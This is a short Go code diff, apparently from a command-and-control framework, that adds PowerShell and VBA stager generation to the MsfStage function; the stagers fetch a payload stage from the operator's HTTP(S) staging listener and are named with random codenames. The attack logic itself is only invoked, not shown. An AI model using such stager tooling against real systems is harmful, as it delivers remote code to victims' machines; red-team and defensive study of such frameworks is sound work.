@@ -141,6 +141,31 @@ func (rpc *Server) MsfStage(ctx context.Context, req *clientpb.MsfStagerReq) (*c
 		return MSFStage, fmt.Errorf("%s is currently not suppoprted", req.GetOS())
 	}
 
+	// Download cradles are generated without msfvenom, they fetch the stage
+	// directly from the HTTP(S) staging listener
+	switch req.GetFormat() {
+	case "powershell", "vba":
+		if uri == "" {
+			return MSFStage, fmt.Errorf("The %s stager requires the http or https staging protocol", req.GetFormat())
+		}
+		scheme := "http"
+		if req.Protocol == clientpb.StageProtocol_HTTPS {
+			scheme = "https"
+		}
+		stageURL := fmt.Sprintf("%s://%s:%d/%s", scheme, req.GetHost(), req.GetPort(), uri)
+		var stage []byte
+		var err error
+		if req.GetFormat() == "powershell" {
+			stage, err = generate.StagerPowerShell(stageURL)
+			MSFStage.File.Name = generate.GetCodename() + ".ps1"
+		} else {
+			stage, err = generate.StagerVBA(stageURL)
+			MSFStage.File.Name = generate.GetCodename() + ".vba"
+		}
+		MSFStage.File.Data = stage
+		return MSFStage, err
+	}
+
 	venomConfig := msf.VenomConfig{
 		Os:       req.GetOS(),
 		Payload:  payload,